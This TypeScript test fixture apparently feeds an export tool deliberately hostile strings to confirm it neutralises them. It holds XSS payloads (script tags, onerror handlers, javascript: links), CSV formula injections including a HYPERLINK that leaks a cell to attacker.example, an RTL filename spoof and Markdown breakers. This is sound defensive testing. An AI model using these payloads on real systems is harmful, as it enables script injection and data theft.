/**
 * Hostile content, planted on purpose in a few items per platform: platforms relay whatever
 * their users typed, so Gleaner must render it inert, keep CSV cells from evaluating, keep
 * Markdown exports intact and cope with huge text. Other tests import these strings to
 * check that they come out harmless.
 */
import { hashOf } from './random';

/** Strings that break HTML, spreadsheets or Markdown when handled carelessly. */
export const HOSTILE_MARKUP = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>'] as const;

export const HOSTILE_LINKS = ['javascript:alert(1)', 'JaVaScRiPt:alert(document.domain)'] as const;

/** Cell values a spreadsheet would evaluate (or a leading tab that hides one). */
export const HOSTILE_FORMULAS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
  '+1',
  '-2',
  '@SUM(1)',
  '\t=1+1',
] as const;

export const HOSTILE_MARKDOWN = [
  '# heading injected into the export',
  '[click me](javascript:alert(1))',
  '| a | b |\n|---|---|\n| pipe | table |',
  '```\nbackticks break code fences\n```',
  '`inline` code and a stray backtick `',
] as const;

/** Text that fools the eye: a right-to-left override and zero-width characters. */
export const HOSTILE_UNICODE = ['invoice\u202Egnp.exe', 'zero\u200Bwidth\u200Djoiner\uFEFF'] as const;

/** About 20 kB of text in one field, with no line breaks for the first part. */
export const HOSTILE_LONG_TEXT = `${'A'.repeat(4096)} ${'long text '.repeat(1600)}`.trimEnd();

/** Every short hostile string; the long text is separate (HOSTILE_LONG_TEXT). */
export const HOSTILE_STRINGS: readonly string[] = [
  ...HOSTILE_MARKUP,
  ...HOSTILE_LINKS,
  ...HOSTILE_FORMULAS,
  ...HOSTILE_MARKDOWN,
  ...HOSTILE_UNICODE,
];

/** One item in this many is hostile: a few per platform across a pool of hundreds. */
const HOSTILE_ONE_IN = 37;

/** Whether the item with this id is one of the hostile ones (deterministic). */
export const isHostileItem = (seed: string, platform: string, id: string): boolean =>
  hashOf(seed, 'hostile', platform, id) % HOSTILE_ONE_IN === 0;

export interface HostileText {
  /** Goes first in a title or text, so formula prefixes sit at the start of a CSV cell. */
  title: string;
  /** A body text carrying a javascript: link, or the very long text. */
  body: string;
}

/** The hostile title and body for a hostile item. */
export function hostileTextFor(seed: string, platform: string, id: string): HostileText {
  const h = hashOf(seed, 'hostile-text', platform, id);
  const title = HOSTILE_STRINGS[h % HOSTILE_STRINGS.length] ?? HOSTILE_MARKUP[0];
  const link = HOSTILE_LINKS[h % HOSTILE_LINKS.length] ?? HOSTILE_LINKS[0];
  const body = h % 4 === 0 ? HOSTILE_LONG_TEXT : `Details here: ${link} and [more](${link}) ${HOSTILE_MARKUP[1]}`;
  return { title, body };
}
